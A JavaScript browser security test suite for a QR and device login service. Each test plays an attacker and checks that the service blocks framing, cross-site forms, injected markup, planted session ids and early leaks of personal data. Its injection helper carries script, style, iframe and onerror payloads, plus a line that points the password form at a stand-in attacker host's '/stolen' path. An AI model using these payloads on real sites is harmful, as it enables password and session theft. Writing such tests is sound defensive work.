// What does a real browser let other sites, planted values and onlookers do? Each test is named for its attack.
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import { after, before, describe, test } from "node:test";
import { Profile, confirmed, enrol, launch, password, scan } from "./browser.mjs";
import { PASSWORD, Terminal, Town } from "./town.mjs";

/** A person whose every field can be found again. */
const MARKER = { login: "zq-login-71c", name: "Zq Person 71c", email: "zq-mail-71c@example.org" };
const MARKS = Object.values(MARKER).map((mark) => mark.toLowerCase());
/** An id and a secret as an attacker would bring them along: well formed, and his. */
const OWN_ID = "AAECAwQFBgcICQoLDA0ODw";
const OWN_SECRET = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8";

describe("an attacker", { concurrency: false }, () => {
  let town, browser, terminal, evil, evilSite;
  const heard = [];

  before(async () => {
    [town, browser, terminal] = await Promise.all([Town.open({ people: [MARKER] }), launch(), Terminal.open()]);
    evil = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`);
      const target = new URL(request.url, "http://evil").searchParams.get("target");
      response.setHeader("content-type", "text/html");
      response.end(
        request.url.startsWith("/frame")
          ? `<!doctype html><title>A game</title><iframe src="${target}"></iframe>`
          : `<!doctype html><title>A game</title><form method="post" action="${target}"><button>Play</button></form>`,
      );
    }).listen(0, "127.0.0.1");
    await once(evil, "listening");
    evilSite = `http://127.0.0.1:${evil.address().port}`;
  });
  after(async () => {
    await browser?.close();
    evil?.close();
    await Promise.all([town?.close(), terminal?.close()]);
  });

  test("framing: a page of ours stays empty in a frame of another site", async () => {
    const profile = await Profile.fresh(browser);
    const { page } = profile;
    const inside = page.frameLocator("iframe");
    await page.goto(`${evilSite}/frame?target=${encodeURIComponent("/form?target=/")}`);
    await inside.getByRole("button", { name: "Play" }).waitFor();
    await page.goto(`${town.issuer}/account`);
    const target = page.url();
    const refused = page.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
    await page.goto(`${evilSite}/frame?target=${encodeURIComponent(target)}`);
    await refused;
    assert.ok(page.frames().every((frame) => !frame.url().startsWith(town.issuer)));
    assert.equal(await inside.getByText("Sign in").count(), 0);
    assert.match(profile.complaints.splice(0).join("\n"), /frame-ancestors 'none'/);
    await profile.close();
  });

  test("cross-site request forgery: a form of another site is refused", async () => {
    const profile = await Profile.fresh(browser);
    const { page } = profile;
    await page.goto(`${town.issuer}/account`);
    await password(page, MARKER.login, PASSWORD);
    await page.getByRole("heading", { name: "Hello" }).waitFor();
    const target = `${town.issuer}/account/devices`;
    await page.goto(`${evilSite}/form?target=${encodeURIComponent(target)}`);
    const answered = page.waitForResponse(target);
    await page.getByRole("button", { name: "Play" }).click();
    assert.equal((await answered).status(), 403);
    await profile.close();
  });

  test("injected markup: no script, style, frame or form of it does anything", { timeout: 30_000 }, async () => {
    const profile = await Profile.fresh(browser);
    const { page } = profile;
    await page.goto(`${town.issuer}/account`);
    await page.getByLabel("Password", { exact: true }).fill(PASSWORD);
    heard.length = 0;
    const { ran, styled, broken } = await page.evaluate(inject, evilSite);
    assert.deepEqual(ran, [], "no script ran");
    assert.equal(styled, false, "no style hides or covers anything");
    const rules = ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "script-src-attr", "script-src-elem"];
    assert.deepEqual(broken, [...rules, "style-src-attr", "style-src-elem"]);
    assert.deepEqual(heard, [], "the attacker's site hears nothing, the password least of all");
    assert.ok(page.url().startsWith(town.issuer));
    assert.ok(profile.complaints.splice(0).every((text) => text.includes("Content Security Policy")));
    await profile.close();
  });

  test("login ticket sent as a link: opening it asks nobody and claims nothing", async () => {
    const profile = await Profile.fresh(browser);
    const { page } = profile;
    await page.goto(`${town.shop}/sign-in`);
    const { prompt } = await state(page);
    assert.match(prompt.payload, /\/Q#/);
    const asked = [];
    const other = await profile.context.newPage();
    other.on("request", (request) => asked.push(`${request.method()} ${new URL(request.url()).pathname}`));
    await other.goto(prompt.payload);
    await other.waitForURL((url) => url.hash === "");
    assert.equal(asked.shift(), "GET /Q");
    const beyond = asked.filter((request) => !/^GET \/assets\/symbolon-[0-9a-f]+\.(css|js|svg)$/.test(request));
    assert.deepEqual(beyond, [], "nothing but the page's own files is loaded");
    assert.equal((await state(page)).status, "offered");
    await profile.close();
  });

  test("F4, controllable id: ids and secrets that a request brings along are not used", async () => {
    const profile = await Profile.fresh(browser);
    const { page, context } = profile;
    const planted = ["lt", "session", "open", "kb", "id", "sign_in", "ceremony", "qr_id"];
    const value = (name) => (["lt", "session", "kb"].includes(name) ? OWN_SECRET : OWN_ID);
    await context.addCookies(planted.map((name) => ({ name, value: value(name), url: town.issuer })));
    const begun = await context.request.get(`${town.shop}/sign-in`, { maxRedirects: 0 });
    const address = new URL(begun.headers().location);
    for (const name of planted) address.searchParams.set(name, value(name));
    await page.goto(address.href);
    await page.getByRole("img", { name: "QR code" }).waitFor();
    assert.equal(new URL(page.url()).pathname, "/login");
    assert.ok(!(await page.content()).includes(OWN_ID), "no id on the page is the attacker's");
    assert.ok(!page.url().includes(OWN_ID));
    const mine = await page.request.get(`${town.issuer}/login?id=${OWN_ID}`);
    assert.equal(mine.status(), 404);

    await page.evaluate(bring, { planted, id: OWN_ID });
    await password(page, MARKER.login, PASSWORD);
    await page.waitForURL(`${town.shop}/`);
    const cookies = await context.cookies(town.issuer);
    const session = cookies.find((cookie) => cookie.name === "session");
    assert.notEqual(session.value, OWN_SECRET, "the session's secret is new at the end");
    await profile.close();
  });

  test("F6, leaked personal data: nobody is named before the browser has finished", async () => {
    const owner = await Profile.fresh(browser);
    await owner.page.goto(`${town.issuer}/account`);
    await password(owner.page, MARKER.login, PASSWORD);
    await enrol(owner.page, town, terminal);
    await owner.close();

    const profile = await Profile.fresh(browser);
    const { page, context } = profile;
    const heard = await listen(page);
    await page.goto(`${town.shop}/sign-in`);
    const digits = await scan(page, terminal);
    await page.getByLabel("Type the code that your device shows").waitFor();
    await state(page);
    assert.deepEqual(await heard.marks(), []);
    await page.getByLabel("Type the code that your device shows").fill(digits);
    await page.getByRole("button", { name: "Sign in", exact: true }).click();
    await confirmed(page);
    await page.waitForURL(`${town.shop}/`);
    assert.deepEqual(await heard.marks(), MARKS, "the marks can be heard at all");

    // The browser is known now, and still learns nothing before the approval is its own.
    await context.clearCookies({ name: "session" });
    await context.clearCookies({ domain: "127.0.0.1" });
    heard.forget();
    const finish = page.waitForRequest(`${town.issuer}/login/finish`);
    finish.then(() => heard.stop());
    await page.goto(`${town.shop}/sign-in`);
    await scan(page, terminal, { digits: false });
    await finish;
    assert.deepEqual(await heard.marks(), []);
    await page.waitForURL(`${town.shop}/`);
    await profile.close();
  });

  /** What a waiting page learns, as JSON. */
  function state(page) {
    return page.evaluate("fetch(document.querySelector('[data-state]').dataset.state).then((answer) => answer.json())");
  }

  /** Adds the attacker's values to every form on the page. */
  function bring({ planted, id }) {
    for (const form of document.forms) {
      for (const name of planted.filter((name) => name !== "id")) {
        const input = Object.assign(document.createElement("input"), { type: "hidden", name, value: id });
        form.append(input);
      }
    }
  }

  /** Puts markup into the page as a hole in a template would; what ran, whether it was styled, and which rules it broke. */
  async function inject(site) {
    window.ran = [];
    const broken = new Set();
    // Each broken rule is told by an event of its own; one that never comes fails the test by its timeout.
    const all = new Promise((done) =>
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        broken.add(effectiveDirective);
        if (broken.size >= 9) done();
      }),
    );
    const hole = document.createElement("div");
    document.body.append(hole);
    hole.innerHTML = `<base href="${site}/"><style>#covered { position: fixed }</style>
      <p id="covered" style="position: fixed"></p><iframe src="${site}/frame?target=/"></iframe>
      <img src="data:," onerror="ran.push('attribute')"><img src="${site}/pixel">`;
    for (const script of [{ textContent: "ran.push('inline')" }, { src: `${site}/script.js` }]) {
      hole.append(Object.assign(document.createElement("script"), script));
    }
    await fetch(`${site}/fetched`, { mode: "no-cors" }).catch(() => {});
    const form = document.querySelector("form[action='/login/password']");
    form.action = `${site}/stolen`;
    form.submit();
    await all;
    const styled = getComputedStyle(hole.querySelector("#covered")).position === "fixed";
    return { ran: window.ran, styled, broken: [...broken].sort() };
  }

  /** Hears everything that the page receives: headers, bodies and events. */
  async function listen(page) {
    let parts = [];
    let open = true;
    const keep = (part) => open && parts.push(part);
    page.on("response", (response) => {
      keep(response.allHeaders().then((headers) => JSON.stringify(headers), () => ""));
      const streams = response.headers()["content-type"]?.startsWith("text/event-stream");
      if (!streams) keep(response.text().catch(() => ""));
    });
    const wire = await page.context().newCDPSession(page);
    await wire.send("Network.enable");
    wire.on("Network.eventSourceMessageReceived", ({ data }) => keep(data));
    return {
      stop: () => (open = false),
      forget: () => (parts = []),
      async marks() {
        const all = (await Promise.all(parts)).join("\n").toLowerCase();
        return MARKS.filter((mark) => all.includes(mark));
      },
    };
  }
});
